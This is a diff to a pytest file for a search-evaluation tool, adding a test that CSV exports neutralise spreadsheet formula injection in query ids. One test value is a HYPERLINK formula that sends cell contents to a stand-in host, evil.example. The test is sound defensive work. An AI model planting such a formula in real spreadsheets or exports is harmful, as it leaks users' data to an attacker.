@@ -17,7 +17,7 @@ import pytest
 from conftest import require_reference
 
 REPO = Path(__file__).resolve().parents[1]
-DEMO = REPO / "assets" / "demo"
+DEMO = REPO / "tsqr" / "data" / "demo"
 # tsqr's measure -> pytrec_eval's.
 TREC_NAMES = {"nDCG@10": "ndcg_cut_10", "nDCG@100": "ndcg_cut_100", "R@10": "recall_10", "R@100": "recall_100",
               "P@10": "P_10", "RR": "recip_rank", "AP": "map"}
@@ -96,3 +96,30 @@ def test_pytrec_eval_scores_of_the_written_runs_are_the_reported_means(evaluated
         assert means["reasoned"] == means["raw"]  # "none" searches with the query itself
     else:
         assert means["reasoned"]["nDCG@10"] > means["raw"]["nDCG@10"]  # the demo's reasonings name the concept
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
+    """The issue's reproduction: a query id `=HYPERLINK(...)` landed raw in per_query.csv, where a spreadsheet
+    runs it. Every text cell starting with = + - @ (or a tab / CR) gets a leading quote, as OWASP advises;
+    scores stay numbers. Checked by reading the CSV files back."""
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A2)", "plain"]
+    examples = tmp_path / "examples.jsonl"
+    examples.write_text("".join(json.dumps({"id": qid, "query": f"why do bees dance {n}", "gold_ids": ["d1"]}) + "\n"
+                                for n, qid in enumerate(hostile)))
+    documents = tmp_path / "documents.jsonl"
+    documents.write_text(json.dumps({"id": "d1", "content": "bees dance to share where flowers are"}) + "\n"
+                         + json.dumps({"id": "d2", "content": "wasps sting"}) + "\n")
+    out = tmp_path / "out"
+    result = subprocess.run([sys.executable, "-m", "tsqr", "evaluate", "--data", str(examples), str(documents),
+                             "--domain=-mine", "--reasoned", "none", "--out", str(out)],
+                            cwd=REPO, capture_output=True, text=True, timeout=600)
+    assert result.returncode == 0, result.stderr[-2000:]
+    with (out / "per_query.csv").open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert {row["query_id"] for row in rows} == {"'" + qid if qid[0] in "=+-@" else qid for qid in hostile}
+    assert {row["domain"] for row in rows} == {"'-mine"}
+    assert all(float(row["value"]) >= 0 for row in rows)
+    with (out / "summary.csv").open(newline="", encoding="utf-8") as handle:
+        summary = list(csv.DictReader(handle))
+    assert {row["domain"] for row in summary} == {"'-mine"} and all(float(row["raw"]) >= 0 for row in summary)
+    assert (out / "-mine.raw.trec").read_text().startswith('=HYPERLINK("http://evil.example/?"&A1,"click") Q0 d1 1 ')
